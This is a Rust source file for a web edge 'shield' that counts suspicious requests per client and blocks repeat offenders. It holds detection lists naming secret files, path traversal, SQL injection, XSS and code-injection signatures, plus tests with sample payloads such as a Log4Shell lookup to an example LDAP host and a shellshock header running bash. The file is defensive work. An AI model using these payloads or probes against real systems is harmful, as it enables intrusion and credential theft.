//! Stage 0: the shield — a suspicion budget per client. A request for a path no app should
//! serve (`/.env`, `/.git/`, `/wp-admin`, backups…), a traversal attempt, or an injection
//! signature in the path, the query or the `User-Agent` / `Referer` headers counts one against
//! the client. `threshold` such requests within `window` and the client is refused (403 or 429,
//! problem type `shield-blocked`) for `cooldown`, whatever it asks for. In `shadow` mode (the
//! default) nothing is refused: the decision and the log line say what would have been.
//!
//! The signature list ([`PATH_NAMES`], [`PATH_SUFFIXES`], [`NEEDLES`], [`SCANNERS`]) is plain
//! data, documented entry by entry with its source (OWASP CRS rule ids, the scanners' own
//! request lists) in docs/shield.md. Matching is plain byte scanning: one table lookup per byte
//! of the path and query, and a word-at-a-time check that a header holds none of `< $ ' " {`
//! before it is looked at byte by byte ([`crate::scan`]) — no regex, no automaton.
//!
//! State lives in the isolate ([`Tracker`], inside the [`crate::Limiter`]), like local limits:
//! each isolate counts its own clients, bounded in memory.

use core::hash::BuildHasher;
use std::borrow::Cow;
use std::collections::HashMap;

use serde::{Deserialize, Serialize};

use crate::glob::Glob;
use crate::request::RequestFacts;
use crate::vocab::{BuildPreHashed, NANOS_PER_SEC, Nanos};

/// `[shield]`, compiled.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Shield {
    /// Refuse clients past the threshold (`mode = "enforce"`); otherwise only report.
    pub enforce: bool,
    /// Suspicious requests within `window_secs` that suspend a client.
    pub threshold: u32,
    pub window_secs: u64,
    /// How long a suspended client is refused.
    pub cooldown_secs: u64,
    /// 403 or 429.
    pub status: u16,
    /// The policy's own probe paths: globs over the lower-cased path, `*` matching any
    /// characters, `/` included.
    pub paths: Vec<Glob>,
    /// Bits of [`Kind`] the policy turned off (`ignore = [...]`).
    pub ignore: u16,
}

/// Families of signatures; a policy can turn any off with `ignore`.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum Kind {
    /// Secrets and version control: `.env`, `.git/`, `.aws/credentials`, `id_rsa`…
    Secrets,
    /// Admin panels and CMS entry points of other stacks: `wp-admin`, `phpmyadmin`…
    AdminPanels,
    /// Server-side script extensions a Next.js app never serves: `.php`, `.asp(x)`, `.jsp`, `.cgi`.
    ServerScripts,
    /// Backups and dumps: `.bak`, `.sql`, `.swp`, `backup.zip`…
    Backups,
    /// Path traversal: `../`, encoded dots, `/etc/passwd`…
    Traversal,
    SqlInjection,
    Xss,
    /// Code and command injection: `${jndi:`, `<?php`, shellshock's `() {`.
    CodeInjection,
    /// A security scanner's own user agent (sqlmap, Nikto, Nuclei…).
    Scanner,
    /// One of the policy's `paths`.
    Policy,
}

impl Kind {
    pub const ALL: [Kind; 10] = [
        Kind::Secrets,
        Kind::AdminPanels,
        Kind::ServerScripts,
        Kind::Backups,
        Kind::Traversal,
        Kind::SqlInjection,
        Kind::Xss,
        Kind::CodeInjection,
        Kind::Scanner,
        Kind::Policy,
    ];

    pub fn code(self) -> &'static str {
        match self {
            Kind::Secrets => "secrets",
            Kind::AdminPanels => "admin_panels",
            Kind::ServerScripts => "server_scripts",
            Kind::Backups => "backups",
            Kind::Traversal => "traversal",
            Kind::SqlInjection => "sql_injection",
            Kind::Xss => "xss",
            Kind::CodeInjection => "code_injection",
            Kind::Scanner => "scanner",
            Kind::Policy => "policy",
        }
    }

    pub fn from_code(code: &str) -> Option<Kind> {
        Kind::ALL.into_iter().find(|k| k.code() == code)
    }

    pub fn bit(self) -> u16 {
        1u16 << (self as u16)
    }
}

/// The first signature a request matched: its family, the signature as listed, and where.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
pub struct Hit {
    pub kind: Kind,
    /// The list entry (`.env`, `union select`…), or `paths` for the policy's own.
    pub signature: &'static str,
    /// `path`, `query`, `user-agent` or `referer`.
    #[serde(rename = "in")]
    pub part: &'static str,
}

/// Exact path segments (lower case) no app behind this edge serves.
pub const PATH_NAMES: &[(&str, Kind)] = &[
    (".git", Kind::Secrets),
    (".svn", Kind::Secrets),
    (".hg", Kind::Secrets),
    (".bzr", Kind::Secrets),
    (".ds_store", Kind::Secrets),
    (".htaccess", Kind::Secrets),
    (".htpasswd", Kind::Secrets),
    (".aws", Kind::Secrets),
    (".ssh", Kind::Secrets),
    (".docker", Kind::Secrets),
    (".kube", Kind::Secrets),
    (".npmrc", Kind::Secrets),
    (".vscode", Kind::Secrets),
    (".idea", Kind::Secrets),
    (".bash_history", Kind::Secrets),
    ("id_rsa", Kind::Secrets),
    ("id_ed25519", Kind::Secrets),
    ("web.config", Kind::Secrets),
    ("docker-compose.yml", Kind::Secrets),
    ("wp-admin", Kind::AdminPanels),
    ("wp-content", Kind::AdminPanels),
    ("wp-includes", Kind::AdminPanels),
    ("wp-login.php", Kind::AdminPanels),
    ("xmlrpc.php", Kind::AdminPanels),
    ("wp-config.php", Kind::AdminPanels),
    ("phpmyadmin", Kind::AdminPanels),
    ("pma", Kind::AdminPanels),
    ("myadmin", Kind::AdminPanels),
    ("adminer.php", Kind::AdminPanels),
    ("cgi-bin", Kind::AdminPanels),
    ("server-status", Kind::AdminPanels),
    ("actuator", Kind::AdminPanels),
    ("_ignition", Kind::AdminPanels),
    ("eval-stdin.php", Kind::AdminPanels),
    ("boaform", Kind::AdminPanels),
    ("hnap1", Kind::AdminPanels),
    ("jmx-console", Kind::AdminPanels),
    ("backup.zip", Kind::Backups),
    ("backup.tar.gz", Kind::Backups),
    ("www.zip", Kind::Backups),
    ("site.zip", Kind::Backups),
];

/// Segment endings (lower case). `.env` also matches `.env.local`, `.env.production`…
pub const PATH_SUFFIXES: &[(&str, Kind)] = &[
    (".php", Kind::ServerScripts),
    (".asp", Kind::ServerScripts),
    (".aspx", Kind::ServerScripts),
    (".jsp", Kind::ServerScripts),
    (".cgi", Kind::ServerScripts),
    (".bak", Kind::Backups),
    (".backup", Kind::Backups),
    (".old", Kind::Backups),
    (".orig", Kind::Backups),
    (".save", Kind::Backups),
    (".swp", Kind::Backups),
    (".sql", Kind::Backups),
    (".sql.gz", Kind::Backups),
    (".sqlite", Kind::Backups),
    ("~", Kind::Backups),
];

/// Substrings (lower case) of the path, the query (percent-decoded, `+` and runs of blanks read
/// as one space) and the scanned headers.
pub const NEEDLES: &[(&str, Kind)] = &[
    ("../", Kind::Traversal),
    ("..\\", Kind::Traversal),
    ("..%2f", Kind::Traversal),
    ("..%5c", Kind::Traversal),
    ("%2e%2e", Kind::Traversal),
    ("%2e./", Kind::Traversal),
    (".%2e/", Kind::Traversal),
    ("%252e", Kind::Traversal),
    ("%c0%ae", Kind::Traversal),
    ("%00", Kind::Traversal),
    ("/etc/passwd", Kind::Traversal),
    ("/etc/shadow", Kind::Traversal),
    ("/proc/self/", Kind::Traversal),
    ("c:\\", Kind::Traversal),
    ("win.ini", Kind::Traversal),
    ("union select", Kind::SqlInjection),
    ("union all select", Kind::SqlInjection),
    ("union/**/select", Kind::SqlInjection),
    ("information_schema", Kind::SqlInjection),
    ("sleep(", Kind::SqlInjection),
    ("benchmark(", Kind::SqlInjection),
    ("pg_sleep(", Kind::SqlInjection),
    ("waitfor delay", Kind::SqlInjection),
    ("xp_cmdshell", Kind::SqlInjection),
    ("load_file(", Kind::SqlInjection),
    ("into outfile", Kind::SqlInjection),
    ("' or '1'='1", Kind::SqlInjection),
    ("' or 1=1", Kind::SqlInjection),
    ("\" or \"1\"=\"1", Kind::SqlInjection),
    ("';--", Kind::SqlInjection),
    ("<script", Kind::Xss),
    ("<svg", Kind::Xss),
    ("<iframe", Kind::Xss),
    ("<img", Kind::Xss),
    ("<body", Kind::Xss),
    ("javascript:", Kind::Xss),
    ("vbscript:", Kind::Xss),
    ("onerror=", Kind::Xss),
    ("onload=", Kind::Xss),
    ("document.cookie", Kind::Xss),
    ("${jndi:", Kind::CodeInjection),
    ("${", Kind::CodeInjection),
    ("$(", Kind::CodeInjection),
    ("<?php", Kind::CodeInjection),
    ("() {", Kind::CodeInjection),
];

/// A header is scanned byte by byte only when it holds one of these (checked eight bytes at a
/// time). Browsers' user agents and pages' referers hold none; the payloads scanners put in
/// headers each hold one (`${jndi:`, `() {`, `<script`, `<?php`, a quoted SQL tautology). A
/// header without them is not scanned for the rest of the list (`../`, `union select`).
pub(crate) const HEADER_TRIGGERS: &[u8] = b"<$'\"{";

/// User-agent tokens (lower case) of security scanners.
pub const SCANNERS: &[&str] = &[
    "sqlmap", "nikto", "nuclei", "zgrab", "masscan", "nmap", "wpscan", "dirbuster", "gobuster", "ffuf", "acunetix", "nessus", "openvas", "l9explore",
    "jorgee", "zmeu", "fuzz faster u fool",
];

/// Where each needle is anchored: the offset of its first byte that is not a letter or digit.
/// The scan stops only at such bytes (one bit test per byte), so ordinary letters never cost a
/// comparison.
const ANCHORS: [usize; NEEDLES.len()] = anchors();

#[allow(clippy::indexing_slicing, clippy::arithmetic_side_effects, reason = "evaluated at compile time only: an index out of bounds fails the build, never a request")]
const fn anchors() -> [usize; NEEDLES.len()] {
    let mut out = [0usize; NEEDLES.len()];
    let mut i = 0;
    while i < NEEDLES.len() {
        let bytes = NEEDLES[i].0.as_bytes();
        let mut j = 0;
        while j < bytes.len() && bytes[j].is_ascii_alphanumeric() {
            j += 1;
        }
        // Every needle holds a byte that is not a letter or digit (a unit test checks it).
        out[i] = if j < bytes.len() { j } else { 0 };
        i += 1;
    }
    out
}

/// For each anchor byte, the needles anchored on it, as bits of their index (fewer than 64
/// needles): at an anchor only those few are compared.
const BY_ANCHOR: [u64; 256] = by_anchor();

#[allow(clippy::indexing_slicing, clippy::arithmetic_side_effects, reason = "evaluated at compile time only: an index out of bounds fails the build, never a request")]
const fn by_anchor() -> [u64; 256] {
    assert!(NEEDLES.len() <= 64);
    let anchors = anchors();
    let mut table = [0u64; 256];
    let mut i = 0;
    while i < NEEDLES.len() {
        let b = NEEDLES[i].0.as_bytes()[anchors[i]];
        table[b as usize] |= 1u64 << i;
        i += 1;
    }
    table
}

/// The first needle found in `bytes`, compared ASCII case-insensitively.
fn find_needle(bytes: &[u8], part: &'static str, ignore: u16) -> Option<Hit> {
    for (i, &b) in bytes.iter().enumerate() {
        let mut candidates = BY_ANCHOR.get(usize::from(b)).copied().unwrap_or(0);
        while candidates != 0 {
            let n = candidates.trailing_zeros() as usize;
            candidates &= candidates.wrapping_sub(1);
            let (Some((needle, kind)), Some(&anchor)) = (NEEDLES.get(n), ANCHORS.get(n)) else { continue };
            if kind.bit() & ignore != 0 {
                continue;
            }
            let Some(start) = i.checked_sub(anchor) else { continue };
            if crate::bots::starts_with_ci(bytes.get(start..).unwrap_or_default(), needle.as_bytes()) {
                return Some(Hit { kind: *kind, signature: needle, part });
            }
        }
    }
    None
}

/// The query as a decoder reads it: `%XX` decoded once, `+` and blanks as one space. Borrowed
/// when there is nothing to decode.
fn decoded(query: &[u8]) -> Cow<'_, [u8]> {
    if !query.iter().any(|&b| matches!(b, b'%' | b'+' | b' ' | b'\t')) {
        return Cow::Borrowed(query);
    }
    let mut out = Vec::with_capacity(query.len());
    let mut i = 0usize;
    while let Some(&b) = query.get(i) {
        let escaped = (b == b'%').then(|| Some((hex(*query.get(i.wrapping_add(1))?)?, hex(*query.get(i.wrapping_add(2))?)?))).flatten();
        let (byte, step) = match escaped {
            Some((h, l)) => (h.wrapping_mul(16).wrapping_add(l), 3),
            None if b == b'+' => (b' ', 1),
            None => (b, 1),
        };
        let byte = if matches!(byte, b'\t' | b'\n' | b'\r') { b' ' } else { byte };
        if !(byte == b' ' && out.last() == Some(&b' ')) {
            out.push(byte);
        }
        i = i.saturating_add(step);
    }
    Cow::Owned(out)
}

fn hex(c: u8) -> Option<u8> {
    match c {
        b'0'..=b'9' => Some(c.wrapping_sub(b'0')),
        b'a'..=b'f' => Some(c.wrapping_sub(b'a').wrapping_add(10)),
        b'A'..=b'F' => Some(c.wrapping_sub(b'A').wrapping_add(10)),
        _ => None,
    }
}

/// The path segment `seg` against the name and suffix lists.
fn segment_hit(seg: &[u8], ignore: u16) -> Option<Hit> {
    let hit = |kind: Kind, signature: &'static str| (kind.bit() & ignore == 0).then_some(Hit { kind, signature, part: "path" });
    if seg.is_empty() {
        return None;
    }
    if crate::bots::starts_with_ci(seg, b".env") {
        return hit(Kind::Secrets, ".env");
    }
    for (name, kind) in PATH_NAMES {
        if name.len() == seg.len() && seg.eq_ignore_ascii_case(name.as_bytes())
            && let Some(h) = hit(*kind, name)
        {
            return Some(h);
        }
    }
    if seg.contains(&b'.') || seg.last() == Some(&b'~') {
        for (suffix, kind) in PATH_SUFFIXES {
            let s = suffix.as_bytes();
            if seg.len() > s.len()
                && seg.get(seg.len().saturating_sub(s.len())..).is_some_and(|t| t.eq_ignore_ascii_case(s))
                && let Some(h) = hit(*kind, suffix)
            {
                return Some(h);
            }
        }
    }
    None
}

/// The first signature the request matches, if any. `browser`: the user agent looks like a
/// browser's ([`crate::bots::looks_like_browser`]), so it is not compared with the scanners'.
pub fn inspect(shield: &Shield, req: &RequestFacts, browser: bool) -> Option<Hit> {
    let ua = req.header("user-agent");
    let suspect = ua.is_some_and(|u| crate::scan::any_below_or_in(u.as_bytes(), 0, HEADER_TRIGGERS));
    inspect_parts(shield, req.url, ua.map(|u| (u, suspect)), req.header("referer"), browser)
}

/// [`inspect`] on the parts it reads: the target, the `User-Agent` (with whether it holds a
/// trigger byte, from [`crate::bots::scan_user_agent`]) and the `Referer`.
pub fn inspect_parts(shield: &Shield, url: &str, user_agent: Option<(&str, bool)>, referer: Option<&str>, browser: bool) -> Option<Hit> {
    let ignore = shield.ignore;
    let target = url.as_bytes();
    // The path of an absolute target starts at the first `/` after `scheme://authority`.
    let path_start = match target.windows(3).position(|w| w == b"://").filter(|_| target.first() != Some(&b'/')) {
        Some(at) => {
            let authority = at.saturating_add(3);
            target.get(authority..).and_then(|rest| rest.iter().position(|&b| b == b'/')).map_or(target.len(), |p| p.saturating_add(authority))
        }
        None => 0,
    };
    let rest = target.get(path_start..).unwrap_or_default();
    let rest = rest.split(|&b| b == b'#').next().unwrap_or_default();
    let (path, query) = match rest.iter().position(|&b| b == b'?') {
        Some(q) => (rest.get(..q).unwrap_or_default(), rest.get(q.saturating_add(1)..).unwrap_or_default()),
        None => (rest, &[][..]),
    };
    for seg in path.split(|&b| b == b'/') {
        if let Some(hit) = segment_hit(seg, ignore) {
            return Some(hit);
        }
    }
    if let Some(hit) = find_needle(path, "path", ignore) {
        return Some(hit);
    }
    if !query.is_empty()
        && let Some(hit) = find_needle(&decoded(query), "query", ignore)
    {
        return Some(hit);
    }
    if !shield.paths.is_empty() && Kind::Policy.bit() & ignore == 0 {
        let lower = String::from_utf8_lossy(path).to_ascii_lowercase();
        if shield.paths.iter().any(|g| g.matches(&lower)) {
            return Some(Hit { kind: Kind::Policy, signature: "paths", part: "path" });
        }
    }
    let referer = referer.map(|r| (r, crate::scan::any_below_or_in(r.as_bytes(), 0, HEADER_TRIGGERS)));
    for (value, part) in [(user_agent, "user-agent"), (referer, "referer")] {
        let Some((value, suspect)) = value else { continue };
        let bytes = value.as_bytes();
        if suspect
            && let Some(hit) = find_needle(bytes, part, ignore)
        {
            return Some(hit);
        }
        if part == "user-agent" && !browser && Kind::Scanner.bit() & ignore == 0
            && let Some(scanner) = SCANNERS.iter().find(|s| crate::bots::contains_ci(bytes, s.as_bytes()))
        {
            return Some(Hit { kind: Kind::Scanner, signature: scanner, part });
        }
    }
    None
}

/// A client's standing after this request.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize)]
pub struct Standing {
    /// Suspicious requests counted in the current window (0 right after a suspension starts).
    pub score: u32,
    /// Seconds of suspension left; 0 when the client is not suspended.
    pub suspended_for: u64,
}

#[derive(Debug, Clone, Copy)]
struct Entry {
    window_start: Nanos,
    count: u32,
    suspended_until: Nanos,
}

/// Per-isolate suspicion counts, keyed by the client's keyed hash. Bounded: when full, clients
/// whose window and suspension are over go first, then unsuspended ones, then all.
pub struct Tracker {
    entries: HashMap<u64, Entry, BuildPreHashed>,
    max: usize,
}

impl Tracker {
    pub fn new(max: usize) -> Tracker {
        Tracker { entries: HashMap::with_hasher(BuildPreHashed), max: max.max(64) }
    }

    pub fn len(&self) -> usize {
        self.entries.len()
    }

    pub fn is_empty(&self) -> bool {
        self.entries.is_empty()
    }

    /// Count this request (`suspicious` or not) for `client` and say where it stands.
    pub fn observe(&mut self, client: u64, suspicious: bool, shield: &Shield, now: Nanos) -> Standing {
        let window = shield.window_secs.saturating_mul(NANOS_PER_SEC);
        if let Some(e) = self.entries.get(&client)
            && e.suspended_until > now
        {
            return Standing { score: e.count, suspended_for: crate::vocab::ceil_secs(e.suspended_until.saturating_sub(now)).max(1) };
        }
        if !suspicious {
            let score = self.entries.get(&client).filter(|e| e.window_start.saturating_add(window) > now).map_or(0, |e| e.count);
            return Standing { score, suspended_for: 0 };
        }
        if !self.entries.contains_key(&client) && self.entries.len() >= self.max {
            self.make_room(now, window);
        }
        let e = self.entries.entry(client).or_insert(Entry { window_start: now, count: 0, suspended_until: 0 });
        if e.window_start.saturating_add(window) <= now {
            e.window_start = now;
            e.count = 0;
        }
        e.count = e.count.saturating_add(1);
        if e.count >= shield.threshold.max(1) {
            e.suspended_until = now.saturating_add(shield.cooldown_secs.saturating_mul(NANOS_PER_SEC));
            let score = e.count;
            e.count = 0;
            e.window_start = now;
            return Standing { score, suspended_for: shield.cooldown_secs.max(1) };
        }
        Standing { score: e.count, suspended_for: 0 }
    }

    fn make_room(&mut self, now: Nanos, window: Nanos) {
        self.entries.retain(|_, e| e.suspended_until > now || e.window_start.saturating_add(window) > now);
        if self.entries.len() >= self.max {
            self.entries.retain(|_, e| e.suspended_until > now);
        }
        if self.entries.len() >= self.max {
            self.entries.clear();
        }
    }
}

/// The hash a client is tracked under, from the limiter's keyed hasher (the same client key
/// limits use: IPv4 address, IPv6 prefix).
pub fn client_hash(hasher: &impl BuildHasher, client: &[u8]) -> u64 {
    use core::hash::Hasher;
    let mut h = hasher.build_hasher();
    h.write(b"shield|");
    h.write(client);
    h.finish()
}

#[cfg(test)]
mod tests {
    // On wasm32 the same tests run under wasm-bindgen-test (scripts/test-core-wasm.sh).
    #[cfg(target_arch = "wasm32")]
    use wasm_bindgen_test::wasm_bindgen_test as test;
    use super::*;
    use crate::request::CfFacts;

    fn shield() -> Shield {
        Shield { enforce: true, threshold: 3, window_secs: 60, cooldown_secs: 600, status: 403, paths: vec![Glob::new("/internal/*")], ignore: 0 }
    }

    fn hit(url: &str, headers: &[(&str, &str)]) -> Option<(Kind, &'static str)> {
        let req = RequestFacts { method: "GET", url, headers, peer_ip: None, cf: CfFacts::NONE };
        let browser = req.header("user-agent").is_some_and(|ua| crate::bots::looks_like_browser(ua.as_bytes()));
        inspect(&shield(), &req, browser).map(|h| (h.kind, h.signature))
    }

    #[test]
    fn probes_are_found() {
        for (url, kind) in [
            ("/.env", Kind::Secrets),
            ("/app/.env.production", Kind::Secrets),
            ("https://lawnquote.online/.git/config", Kind::Secrets),
            ("/.GIT/HEAD", Kind::Secrets),
            ("/wp-admin/setup-config.php", Kind::AdminPanels),
            ("/wp-login.php", Kind::AdminPanels),
            ("/phpmyadmin/", Kind::AdminPanels),
            ("/info.php", Kind::ServerScripts),
            ("/db.sql", Kind::Backups),
            ("/index.js.bak", Kind::Backups),
            ("/a/../../etc/passwd", Kind::Traversal),
            ("/a/%2e%2e/%2e%2e/etc", Kind::Traversal),
            ("/static/..%2f..%2fwin.ini", Kind::Traversal),
            ("/search?q=1%27%20UNION%20SELECT%20password%20FROM%20users", Kind::SqlInjection),
            ("/search?q=1+union++select+1", Kind::SqlInjection),
            ("/p?id=1;waitfor%20delay%20'0:0:5'", Kind::SqlInjection),
            ("/?q=%3Cscript%3Ealert(1)%3C/script%3E", Kind::Xss),
            ("/?next=javascript:alert(1)", Kind::Xss),
            ("/?x=${jndi:ldap://e.example/a}", Kind::CodeInjection),
            ("/internal/anything/deep", Kind::Policy),
        ] {
            assert_eq!(hit(url, &[]).map(|h| h.0), Some(kind), "{url}");
        }
        assert_eq!(hit("/", &[("user-agent", "${jndi:ldap://x/a}")]).map(|h| h.0), Some(Kind::CodeInjection));
        assert_eq!(hit("/", &[("user-agent", "() { :; }; /bin/bash -c id")]).map(|h| h.0), Some(Kind::CodeInjection));
        assert_eq!(hit("/", &[("User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)")]).map(|h| h.0), Some(Kind::Scanner));
        assert_eq!(hit("/", &[("user-agent", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)")]).map(|h| h.0), Some(Kind::Scanner));
        assert_eq!(hit("/", &[("referer", "https://x/?q=<script>alert(1)</script>")]).map(|h| h.0), Some(Kind::Xss));
    }

    #[test]
    fn ordinary_traffic_is_not() {
        for url in [
            "/",
            "https://lawnquote.online/dashboard?tab=quotes&page=2",
            "/_next/static/chunks/app/page-4f2a.js",
            "/_next/image?url=%2Flogo.png&w=64&q=75",
            "/api/quotes/123e4567-e89b-12d3-a456-426614174000/pdf",
            "/api/webhooks/stripe",
            "/.well-known/security.txt",
            "/pricing?plan=pro&utm_source=newsletter+december",
            "/search?q=lawn+mowing+%26+edging+(weekly)",
            "/blog/how-to-price-a-lawn-job?ref=a.b.c",
            "/favicon.ico",
            "/dashboard?_rsc=1x2y3",
            "/api/admin/users/42/activity",
        ] {
            assert_eq!(hit(url, &[("user-agent", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36"), ("referer", "https://lawnquote.online/dashboard")]), None, "{url}");
        }
        assert_eq!(hit("/", &[("user-agent", "Stripe/1.0 (+https://stripe.com/docs/webhooks)")]), None);
        assert_eq!(hit("/", &[("user-agent", "curl/8.5.0")]), None);
    }

    #[test]
    fn every_needle_has_an_anchor() {
        for ((needle, _), anchor) in NEEDLES.iter().zip(ANCHORS) {
            let b = needle.as_bytes()[anchor];
            assert!(!b.is_ascii_alphanumeric(), "{needle}");
            assert_ne!(BY_ANCHOR[usize::from(b)], 0);
            assert_eq!(needle.to_ascii_lowercase(), *needle, "needles are lower case");
        }
        assert!([b'a', b'Z', b'7'].iter().all(|b| BY_ANCHOR[usize::from(*b)] == 0), "letters and digits never stop the scan");
    }

    #[test]
    fn ignored_families_do_not_count() {
        let mut s = shield();
        s.ignore = Kind::ServerScripts.bit();
        let req = RequestFacts { method: "GET", url: "/index.php", headers: &[], peer_ip: None, cf: CfFacts::NONE };
        assert_eq!(inspect(&s, &req, false), None);
    }

    #[test]
    fn threshold_window_and_cooldown() {
        let s = shield();
        let mut t = Tracker::new(100);
        let sec = NANOS_PER_SEC;
        assert_eq!(t.observe(1, true, &s, 0).score, 1);
        assert_eq!(t.observe(1, false, &s, sec).score, 1);
        assert_eq!(t.observe(1, true, &s, 2 * sec).score, 2);
        // The window (60 s) passes: counting starts again.
        assert_eq!(t.observe(1, true, &s, 61 * sec).score, 1);
        assert_eq!(t.observe(1, true, &s, 62 * sec).score, 2);
        let third = t.observe(1, true, &s, 63 * sec);
        assert_eq!(third, Standing { score: 3, suspended_for: 600 });
        // Suspended: even an innocent request stands refused until the cool-down ends.
        assert_eq!(t.observe(1, false, &s, 100 * sec).suspended_for, 563);
        assert_eq!(t.observe(2, false, &s, 100 * sec), Standing::default(), "another client is not affected");
        assert_eq!(t.observe(1, false, &s, 663 * sec), Standing { score: 0, suspended_for: 0 });
    }

    #[test]
    fn memory_is_bounded() {
        let s = shield();
        let mut t = Tracker::new(64);
        for client in 0..10_000u64 {
            t.observe(client, true, &s, client);
            assert!(t.len() <= 64);
        }
    }

    // proptest needs threads, failure files and OS randomness: native runs only.
    #[cfg(not(target_arch = "wasm32"))]
    proptest::proptest! {
        /// The one-pass user-agent scan says what the separate checks say.
        #[test]
        fn one_pass_scan_agrees(ua in "(Mozilla/5.0 \\()?[ -~]{0,60}") {
            let scan = crate::bots::scan_user_agent(ua.as_bytes());
            proptest::prop_assert_eq!(scan.suspect, crate::scan::any_below_or_in(ua.as_bytes(), 0, HEADER_TRIGGERS));
            let lower = ua.to_ascii_lowercase();
            let plain = ua.starts_with("Mozilla/5.0 (") && !["bot", "crawl", "compatible", "spider", "http", "headless"].iter().any(|m| lower.contains(m));
            proptest::prop_assert_eq!(scan.browser, plain);
        }

        /// Any target and header bytes: an answer, never a panic; the decoder never grows a query.
        #[test]
        fn never_panics(url in "\\PC{0,80}", ua in "\\PC{0,60}", raw in proptest::collection::vec(proptest::prelude::any::<u8>(), 0..60)) {
            let headers = [("user-agent", ua.as_str()), ("referer", ua.as_str())];
            let req = RequestFacts { method: "GET", url: &url, headers: &headers, peer_ip: None, cf: CfFacts::NONE };
            let _ = inspect(&shield(), &req, false);
            proptest::prop_assert!(decoded(&raw).len() <= raw.len());
            let _ = find_needle(&raw, "path", 0);
        }
    }
}
